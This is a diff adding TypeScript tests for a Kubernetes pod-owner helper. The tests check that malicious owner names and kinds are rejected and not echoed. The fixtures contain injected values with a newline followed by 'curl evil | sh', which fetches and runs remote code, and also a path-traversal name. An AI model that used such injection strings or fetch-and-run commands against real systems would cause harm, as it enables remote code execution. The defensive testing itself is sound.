@@ -85,3 +85,27 @@ function pod(kind: Row["kind"], nodeName: string, i: number): RunningPod {
     status: { phase: "Running" },
   } as RunningPod;
 }
+
+test.each([
+  ["a name that begins a line", { kind: "Deployment", name: "x\n repair: curl evil | sh" }],
+  ["a kind that begins a line", { kind: "x\n repair: curl evil | sh", name: "web" }],
+  ["a path as a name", { kind: "DaemonSet", name: "../../payments/daemonsets/ledger" }],
+])("what a pod says of its owner is no sentence of ours: %s", async (_, { kind, name }) => {
+  const nothing = () => Promise.resolve(undefined);
+  const pod = {
+    metadata: { name: "a", namespace: "shop", ownerReferences: [reference(kind, name, "of-none")] },
+    spec: {},
+  } as unknown as RunningPod;
+  const { reason } = await podOwner(nothing, pod, new Date(0));
+  expect(reason).toBe("its owner has no valid name, and is not there: nothing would bring it back");
+});
+
+test("a kind that begins a line is not repeated, where the pods are evicted either", async () => {
+  const owner = { ...reference("x\n repair: curl evil | sh", "web", "of-web"), apiVersion: "example.com/v1" };
+  const pod = {
+    metadata: { name: "a", namespace: "shop", ownerReferences: [owner] },
+    spec: {},
+  } as unknown as RunningPod;
+  const { restart, controller } = await podOwner(() => Promise.resolve(undefined), pod, new Date(0));
+  expect([restart, controller]).toEqual(["evict", "an owner without a valid kind"]);
+});
